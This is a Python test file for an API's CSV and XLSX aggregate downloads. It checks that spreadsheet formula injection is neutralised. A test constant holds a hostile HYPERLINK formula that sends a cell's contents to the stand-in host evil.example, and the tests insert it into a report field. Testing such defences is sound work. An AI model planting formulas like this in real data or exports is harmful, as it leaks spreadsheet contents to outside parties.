"""GET /v1/aggregate?format=csv|xlsx: downloads for spreadsheets in which every cell is data."""

from __future__ import annotations

import csv
import io

from openpyxl import load_workbook

FORMULA = '=HYPERLINK("http://evil.example/?q="&A1;"Bericht")'


def _post_hostile(client, auth, service_report):
    text = service_report("lindenau.txt").replace("Landkreis\nTübingen", f"Landkreis\n{FORMULA}", 1)
    reply = client.post("/v1/reports", json={"text": text, "filename": "x.txt"}, headers=auth("read"))
    assert reply.status_code == 201, reply.text
    assert reply.json()["report"]["kommune"]["landkreis"] == FORMULA


def test_aggregate_csv_quotes_a_formula_landkreis(client, auth, service_report):
    _post_hostile(client, auth, service_report)
    reply = client.get("/v1/aggregate?by=landkreis&format=csv", headers=auth("read"))
    assert reply.status_code == 200
    rows = list(csv.reader(io.StringIO(reply.text)))
    assert rows[1][0] == "'" + FORMULA and rows[1][1].isdigit()


def test_aggregate_xlsx_is_a_workbook_with_string_cells(client, auth, service_report):
    _post_hostile(client, auth, service_report)
    reply = client.get("/v1/aggregate?by=landkreis,sentiment&format=xlsx", headers=auth("read"))
    assert reply.status_code == 200
    assert (
        reply.headers["content-type"] == "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    )
    assert reply.headers["content-disposition"] == 'attachment; filename="kfd-aggregate.xlsx"'
    sheet = load_workbook(io.BytesIO(reply.content)).active
    assert [c.value for c in sheet[1]] == ["landkreis", "sentiment", "count", "total", "share"]
    first = sheet[2]
    assert (first[0].value, first[0].data_type) == (FORMULA, "s")
    assert all(c.data_type == "n" for c in first[2:])
